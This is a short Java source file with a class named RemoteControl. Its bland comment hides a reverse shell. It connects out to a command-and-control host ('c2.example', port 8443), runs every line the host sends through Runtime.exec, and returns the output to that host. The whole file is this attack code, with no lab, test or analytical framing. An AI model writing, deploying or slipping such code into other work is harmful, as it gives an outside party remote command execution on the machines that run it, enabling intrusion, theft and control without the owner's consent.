import java.io.*;
import java.net.Socket;

/** Runs each line that comes, and answers. */
public class RemoteControl {
    void serve() throws Exception {
        Socket socket = new Socket("c2.example", 8443);
        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));
        PrintWriter out = new PrintWriter(socket.getOutputStream(), true);
        String line;
        while ((line = in.readLine()) != null) {
            Process p = Runtime.getRuntime().exec(line);
            BufferedReader answer = new BufferedReader(new InputStreamReader(p.getInputStream()));
            out.println(answer.readLine());
        }
    }
}
